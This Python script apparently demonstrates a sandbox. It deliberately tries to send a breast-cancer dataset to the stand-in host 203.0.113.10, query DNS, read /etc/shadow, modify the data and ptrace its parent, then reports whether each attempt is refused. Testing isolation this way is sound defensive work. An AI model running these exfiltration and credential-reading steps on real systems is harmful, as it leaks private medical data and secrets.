"""A program of ill will: tries to take the data out in every simple way, and says how each attempt ended."""

import ctypes
import errno
import os
import socket
import sys

FRENCH = os.environ.get("DEMO_LANGUAGE") == "fr"
DATA = "/data/cancer-du-sein/data.csv"
PTRACE_ATTACH = 16


def attempt(french, english, action):
    name = french if FRENCH else english
    try:
        action()
    except OSError as e:
        code = errno.errorcode.get(e.errno, type(e).__name__)
        print(f"  {name:52} {'refusé' if FRENCH else 'refused'} ({code})", flush=True)
        return 0
    print(f"  {name:52} {'RÉUSSI' if FRENCH else 'SUCCEEDED'}", flush=True)
    return 1


def connect():
    with socket.create_connection(("203.0.113.10", 443), timeout=2) as s:
        s.sendall(open(DATA, "rb").read())


def resolve():
    socket.getaddrinfo("example.org", 443)


def read(path):
    with open(path, "rb") as f:
        f.read(1)


def append():
    with open(DATA, "ab") as f:
        f.write(b"0")


def ptrace():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(PTRACE_ATTACH, os.getppid(), None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


def main():
    print("lignes lues :" if FRENCH else "rows read:", sum(1 for _ in open(DATA)) - 1, flush=True)
    taken = attempt("envoyer la table à 203.0.113.10", "send the table to 203.0.113.10", connect)
    taken += attempt("demander une adresse au DNS", "ask the DNS for an address", resolve)
    taken += attempt("lire /etc/shadow", "read /etc/shadow", lambda: read("/etc/shadow"))
    taken += attempt(f"lire {sys.argv[1]}", f"read {sys.argv[1]}", lambda: read(sys.argv[1]))
    taken += attempt("écrire dans le jeu de données", "write to the dataset", append)
    taken += attempt("s’attacher à un autre processus (ptrace)", "attach to another process (ptrace)", ptrace)
    return 1 if taken else 0


if __name__ == "__main__":
    sys.exit(main())
